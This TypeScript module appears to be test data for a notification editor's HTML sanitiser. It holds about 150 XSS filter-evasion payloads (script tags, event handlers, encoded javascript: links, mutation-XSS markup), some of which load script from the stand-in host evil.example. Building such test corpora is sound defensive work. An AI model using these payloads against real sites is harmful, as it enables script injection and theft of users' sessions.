// Test data, not product code: markup that tries to get something run through the notification
// editor's sanitiser, written after the kinds of the OWASP XSS Filter Evasion Cheat Sheet. The
// unit test of the sanitiser (sanitize.test.ts) and the backend's integration test
// (tests/integration/backend-push-xss.test.ts) both read every payload, and check what comes out
// with xss-check.ts. Nothing imports this module outside the tests.

export interface XssPayload {
  name: string;
  payload: string;
}

/** The scheme `javascript:` as decimal character references padded with zeros, without semicolons. */
const paddedDecimal = [...'javascript:']
  .map((character) => `&#${String(character.charCodeAt(0)).padStart(7, '0')}`)
  .join('');
/**
 * The scheme's letters as hexadecimal references without semicolons, then its colon (a letter
 * a to f after a reference would be read as one more digit of it).
 */
const bareHex = `${[...'javascript']
  .map((character) => `&#x${character.charCodeAt(0).toString(16)}`)
  .join('')}:`;
/** The same as decimal references, with semicolons. */
const decimal = [...'javascript:'].map((character) => `&#${character.charCodeAt(0)};`).join('');

export const xssCorpus: readonly XssPayload[] = [
  // Script elements, spelled every way.
  { name: 'script element', payload: '<script>alert(1)</script>' },
  { name: 'script in mixed case', payload: '<ScRiPt>alert(1)</sCrIpT>' },
  {
    name: 'script with an outside source',
    payload: '<script src="https://evil.example/x.js"></script>',
  },
  { name: 'script with a space before its name', payload: '< script>alert(1)</script>' },
  { name: 'script name split by a NUL', payload: '<scr\u0000ipt>alert(1)</scr\u0000ipt>' },
  { name: 'script after an extra bracket', payload: '<<script>alert(1);//<</script>' },
  { name: 'script never closed', payload: '<p>Let op</p><script>alert(1)' },
  {
    name: 'script with a slash attribute',
    payload: '<script/xss src="https://evil.example/x.js"></script>',
  },
  { name: 'script inside a paragraph', payload: '<p>Hallo<script>alert(1)</script> wereld</p>' },
  {
    name: 'script end tag inside a script string',
    payload: '<script>var a = "</script><script>alert(1)</script>";</script>',
  },
  { name: 'script nested in its own name', payload: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'script name doubled inside itself', payload: '<scrscriptipt>alert(1)</scrscriptipt>' },
  {
    name: 'script as a module',
    payload: '<script type="module">import("https://evil.example")</script>',
  },

  // Images and other media with event handlers.
  { name: 'img onerror', payload: '<img src=x onerror=alert(1)>' },
  { name: 'IMG with a javascript source', payload: '<IMG SRC="javascript:alert(\'XSS\');">' },
  { name: 'img with quote entities', payload: '<IMG SRC=javascript:alert(&quot;XSS&quot;)>' },
  {
    name: 'img onerror as padded references',
    payload: `<img src=x onerror="${paddedDecimal}alert(1)">`,
  },
  {
    name: 'img with broken quotes around a script',
    payload: '<img """><script>alert("XSS")</script>">',
  },
  { name: 'img with slashes between attributes', payload: '<img/src="x"/onerror=alert(1)>' },
  { name: 'img onmouseover', payload: '<IMG SRC=# onmouseover="alert(\'xxs\')">' },
  { name: 'img running its own alt', payload: '<img src=x:alert(alt) onerror=eval(src) alt=0>' },
  { name: 'image, which a browser reads as img', payload: '<image src=x onerror=alert(1)>' },
  { name: 'img never closed', payload: '<p>Kijk</p><img src=x onerror=alert(1)' },
  { name: 'svg onload', payload: '<svg onload=alert(1)>' },
  { name: 'svg onload after a slash', payload: '<svg/onload=alert(1)>' },
  { name: 'script inside svg', payload: '<svg><script>alert(1)</script></svg>' },
  {
    name: 'svg link with xlink:href',
    payload: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
  },
  {
    name: 'svg animate onbegin',
    payload: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  },
  {
    name: 'svg use with a data document',
    payload:
      "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x\"></use></svg>",
  },
  {
    name: 'svg foreignObject with an iframe',
    payload:
      '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe></foreignObject></svg>',
  },
  {
    name: 'iframe with a javascript source',
    payload: '<iframe src="javascript:alert(1)"></iframe>',
  },
  {
    name: 'iframe srcdoc with encoded script',
    payload: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  },
  { name: 'iframe srcdoc with an img', payload: '<iframe srcdoc="<img src=x onerror=alert(1)>">' },
  {
    name: 'IFRAME onmouseover',
    payload: '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  },
  { name: 'object with javascript data', payload: '<object data="javascript:alert(1)"></object>' },
  {
    name: 'object as a scriptlet',
    payload: '<object type="text/x-scriptlet" data="https://evil.example/xss.html"></object>',
  },
  {
    name: 'object with a javascript param',
    payload: '<object><param name="src" value="javascript:alert(1)"></object>',
  },
  {
    name: 'embed of an svg data document',
    payload:
      '<embed src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">',
  },
  { name: 'video source onerror', payload: '<video><source onerror="alert(1)"></video>' },
  { name: 'audio onerror', payload: '<audio src=x onerror=alert(1)>' },
  {
    name: 'frameset with a javascript frame',
    payload: '<frameset><frame src="javascript:alert(1)"></frameset>',
  },
  { name: 'bgsound with a javascript source', payload: '<BGSOUND SRC="javascript:alert(1);">' },
  {
    name: 'layer with an outside source',
    payload: '<LAYER SRC="https://evil.example/x.js"></LAYER>',
  },
  {
    name: 'portal with an outside source',
    payload: '<portal src="https://evil.example"></portal>',
  },

  // Other elements that run code through their attributes.
  { name: 'body onload', payload: '<body onload=alert(1)><p>x</p></body>' },
  { name: 'input autofocus onfocus', payload: '<input autofocus onfocus=alert(1)>' },
  {
    name: 'details ontoggle',
    payload: '<details open ontoggle=alert(1)><summary>x</summary></details>',
  },
  { name: 'marquee onstart', payload: '<marquee onstart=alert(1)>x</marquee>' },
  { name: 'unknown element onfocus', payload: '<xss id=x tabindex=1 onfocus=alert(1)>x</xss>' },
  { name: 'div onclick', payload: '<div onclick="alert(1)">x</div>' },
  { name: 'button onclick', payload: '<button onclick=alert(1)>x</button>' },
  { name: 'keygen autofocus', payload: '<keygen autofocus onfocus=alert(1)>' },
  {
    name: 'table background',
    payload: '<table background="javascript:alert(1)"><td>x</td></table>',
  },

  // Styles.
  { name: 'style expression()', payload: '<div style="width: expression(alert(1))">x</div>' },
  {
    name: 'style url(javascript:)',
    payload: '<p style="background:url(javascript:alert(1))">x</p>',
  },
  { name: 'style @import', payload: "<style>@import 'javascript:alert(1)';</style><p>x</p>" },
  {
    name: 'style list image',
    payload:
      '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  },
  { name: 'style behavior', payload: '<p style="behavior: url(xss.htc);">x</p>' },
  {
    name: 'style url with a control character',
    payload: '<div style="background-image: url(&#1;javascript:alert(1))">x</div>',
  },
  {
    name: 'stylesheet link',
    payload: '<link rel="stylesheet" href="javascript:alert(1)"><p>x</p>',
  },

  // A document's head: refresh, base, character set.
  {
    name: 'meta refresh to javascript',
    payload: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>x</p>',
  },
  {
    name: 'meta refresh to a data document',
    payload:
      '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  },
  { name: 'base href', payload: '<base href="javascript:alert(1)//"><a href="/x">x</a>' },
  {
    name: 'UTF-7 announced by a meta',
    payload: '<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  },
  { name: 'UTF-7 script', payload: '+ADw-script+AD4-alert(1)+ADw-/script+AD4-' },

  // Forms.
  { name: 'form action', payload: '<form action="javascript:alert(1)"><button>x</button></form>' },
  {
    name: 'button formaction',
    payload: '<form><button formaction="javascript:alert(1)">x</button></form>',
  },
  {
    name: 'button formaction for a form elsewhere',
    payload:
      '<form id="test"></form><button form="test" formaction="javascript:alert(1)">X</button>',
  },
  { name: 'isindex action', payload: '<isindex action="javascript:alert(1)" type=image>' },

  // Elements whose content a browser reads as text, and parsers that disagree (mutation XSS).
  {
    name: 'template with a script',
    payload: '<template><script>alert(1)</script></template><p>x</p>',
  },
  {
    name: 'noscript closing inside an attribute',
    payload: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  },
  { name: 'textarea with a script', payload: '<textarea><script>alert(1)</script></textarea>' },
  { name: 'title with a script', payload: '<title><script>alert(1)</script></title>' },
  {
    name: 'xmp closing inside an attribute',
    payload: '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  },
  {
    name: 'noembed closing inside an attribute',
    payload: '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  },
  { name: 'plaintext before a script', payload: '<plaintext><script>alert(1)</script>' },
  {
    name: 'style inside an option',
    payload: '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
  },
  {
    name: 'svg style holding an img',
    payload: '<svg><style><img src=x onerror=alert(1)></style></svg>',
  },
  {
    name: 'math namespace confusion',
    payload: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  },
  { name: 'math element with an href', payload: '<math href="javascript:alert(1)">CLICKME</math>' },
  {
    name: 'math mi with xlink:href',
    payload: '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  },
  {
    name: 'svg inside a link',
    payload: '<a href="https://www.rivierstad.be"><svg onload=alert(1)></a>',
  },

  // Links with schemes that run code, and ways to hide them.
  { name: 'javascript link', payload: '<a href="javascript:alert(1)">x</a>' },
  { name: 'javascript link in mixed case', payload: '<a href="JaVaScRiPt:alert(1)">x</a>' },
  {
    name: 'javascript link split by an encoded tab',
    payload: '<a href="jav&#x09;ascript:alert(1)">x</a>',
  },
  {
    name: 'javascript link split by an encoded newline',
    payload: '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  },
  {
    name: 'javascript link split by an encoded carriage return',
    payload: '<a href="jav&#x0D;ascript:alert(1)">x</a>',
  },
  { name: 'javascript link split by a tab', payload: '<a href="jav\tascript:alert(1)">x</a>' },
  { name: 'javascript link split by a newline', payload: '<a href="java\nscript:alert(1)">x</a>' },
  { name: 'javascript link split by a NUL', payload: '<a href="java\u0000script:alert(1)">x</a>' },
  {
    name: 'javascript link after spaces and a control character',
    payload: '<a href=" &#14;  javascript:alert(1)">x</a>',
  },
  { name: 'javascript link as decimal references', payload: `<a href="${decimal}alert(1)">x</a>` },
  {
    name: 'javascript link as padded decimal references',
    payload: `<a href="${paddedDecimal}alert(1)">x</a>`,
  },
  {
    name: 'javascript link as hexadecimal references without semicolons',
    payload: `<a href="${bareHex}alert(1)">x</a>`,
  },
  {
    name: 'javascript link with a named colon',
    payload: '<a href="javascript&colon;alert(1)">x</a>',
  },
  {
    name: 'javascript link with an encoded colon',
    payload: '<a href="javascript&#58;alert(1)">x</a>',
  },
  {
    name: 'javascript link double-encoded',
    payload: '<a href="&amp;#106;avascript:alert(1)">x</a>',
  },
  {
    name: 'javascript link percent-encoded',
    payload: '<a href="%6A%61%76%61%73%63%72%69%70%74%3Aalert(1)">x</a>',
  },
  {
    name: 'javascript link behind a line separator',
    payload: '<a href="\u2028javascript:alert(1)">x</a>',
  },
  {
    name: 'javascript link with a zero-width space',
    payload: '<a href="java\u200Bscript:alert(1)">x</a>',
  },
  { name: 'javascript link with a comment', payload: '<a href="javascript://%0Aalert(1)">x</a>' },
  { name: 'javascript link unquoted', payload: '<a href=javascript:alert(1)>x</a>' },
  { name: 'javascript link in backticks', payload: '<a href=`javascript:alert(1)`>x</a>' },
  { name: 'vbscript link', payload: '<a href="vbscript:msgbox(1)">x</a>' },
  {
    name: 'data link to a document',
    payload: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  },
  {
    name: 'data link in capitals',
    payload: '<a href="DATA:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>',
  },
  { name: 'protocol-relative link', payload: '<a href="//evil.example">x</a>' },
  {
    name: 'link starting with a backslash and a slash',
    payload: '<a href="\\/evil.example">x</a>',
  },
  {
    name: 'link starting with a slash and a backslash',
    payload: '<a href="/\\evil.example">x</a>',
  },
  { name: 'relative link into the portal', payload: '<a href="/uitloggen">x</a>' },
  { name: 'link with xlink:href', payload: '<a xlink:href="javascript:alert(1)">x</a>' },
  {
    name: 'javascript link after a web link in the same element',
    payload: '<a href="https://www.rivierstad.be" href="javascript:alert(1)">x</a>',
  },
  {
    name: 'web link after a javascript link in the same element',
    payload: '<a href="javascript:alert(1)" href="https://www.rivierstad.be">x</a>',
  },
  {
    name: 'javascript link around formatting',
    payload: '<a href="javascript:alert(1)"><b>x</b></a>',
  },
  {
    name: 'mail link carrying markup',
    payload: '<a href="mailto:info@rivierstad.be?body=<script>alert(1)</script>">x</a>',
  },

  // Breaking out of an allowed element's attributes.
  {
    name: 'event handler on a web link',
    payload: '<a href="https://www.rivierstad.be" onmouseover="alert(1)">x</a>',
  },
  {
    name: 'quote breaking out of a web link',
    payload: '<a href="https://www.rivierstad.be"" onclick="alert(1)">x</a>',
  },
  {
    name: 'single quotes around a handler',
    payload: "<a href='https://www.rivierstad.be' title='x' onclick='alert(1)'>x</a>",
  },
  {
    name: 'link styled over the whole screen',
    payload:
      '<a href="https://www.rivierstad.be" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
  },
  {
    name: 'link that asks for its opener',
    payload: '<a href="https://www.rivierstad.be" target="_self" rel="opener">x</a>',
  },
  { name: 'paragraph onclick', payload: '<p title="x" onclick="alert(1)">x</p>' },
  { name: 'bold onmouseover', payload: '<b onmouseover=alert(1)>x</b>' },
  { name: 'paragraph onclick after a slash', payload: '<p/onclick=alert(1)>x</p>' },
  {
    name: 'list with handlers and styles',
    payload: '<ul onmouseover="alert(1)"><li style="x:expression(alert(1))">x</li></ul>',
  },
  {
    name: 'paragraph with every global attribute',
    payload: '<p id="x" class="y" data-x="z" tabindex=1 accesskey=x>x</p>',
  },
  { name: 'handler in backticks', payload: '<p title="a`b" onclick=`alert(1)`>x</p>' },
  {
    name: 'attribute breaking out into a script',
    payload: "<strong title='\"><script>alert(1)</script>'>x</strong>",
  },
  {
    name: 'handler after a broken attribute',
    payload: '<p title="a" onmouseover=alert(1)//">x</p>',
  },

  // Markup that is broken, unclosed or misnested.
  { name: 'link never closed', payload: '<p>Hier</p><a href="javascript:alert(1)"' },
  { name: 'script inside an open tag', payload: '<b <script>alert(1)</script>x</b>' },
  { name: 'img after a broken end tag', payload: '<p>x</p <img src=x onerror=alert(1)>' },
  { name: 'script between end and start tags', payload: '</p><script>alert(1)</script><p>' },
  { name: 'img with spaces in its scheme', payload: '<IMG SRC="jav   ascript:alert(\'XSS\');">' },
  { name: 'tags inside tags', payload: '<<b>>x<</b>>' },
  { name: 'link left open at the end', payload: '<a href="https://www.rivierstad.be">x</a><a' },

  // Comments, CDATA, processing instructions and declarations.
  { name: 'img inside a comment', payload: '<!--<img src=x onerror=alert(1)>--><p>x</p>' },
  {
    name: 'comment closed with --!>',
    payload: '<p>x</p><!-- --!><img src=x onerror=alert(1)> -->',
  },
  {
    name: 'conditional comment',
    payload: '<p>a<!--[if gte IE 4]><script>alert(1)</script><![endif]-->b</p>',
  },
  {
    name: 'comment spanning an end tag',
    payload: '<p><!--</p><img src=x onerror=alert(1)>--></p>',
  },
  { name: 'CDATA with a script', payload: '<![CDATA[<script>alert(1)</script>]]><p>x</p>' },
  {
    name: 'XML stylesheet instruction',
    payload: '<?xml-stylesheet href="javascript:alert(1)"?><p>x</p>',
  },
  { name: 'doctype declaration', payload: '<!DOCTYPE html><p>x</p>' },

  // Encodings and text that only looks like markup.
  { name: 'script as escaped text', payload: '<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>' },
  {
    name: 'img double-encoded as text',
    payload: '<p>&amp;lt;img src=x onerror=alert(1)&amp;gt;</p>',
  },
  { name: 'script percent-encoded', payload: '<p>%3Cscript%3Ealert(1)%3C/script%3E</p>' },
  {
    name: 'script in full-width brackets',
    payload: '<p>\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E</p>',
  },
  {
    name: 'script as JavaScript escapes',
    payload: '<p>\\u003cscript\\u003ealert(1)\\u003c/script\\u003e</p>',
  },
  { name: 'NUL in the text', payload: '<p>Uw pas\u0000poort is klaar.</p>' },
  { name: 'lone surrogate in the text', payload: '<p>Uw \uD800paspoort is klaar.</p>' },
  {
    name: 'link text that is escaped markup',
    payload: '<a href="https://www.rivierstad.be">&lt;script&gt;alert(1)&lt;/script&gt;</a>',
  },
  {
    name: 'script after 994 characters',
    payload: `<p>${'a'.repeat(994)}</p><script>alert(1)</script>`,
  },
  {
    name: 'javascript link after 994 characters',
    payload: `<p>${'a'.repeat(994)}<a href="javascript:alert(1)">x</a></p>`,
  },
];
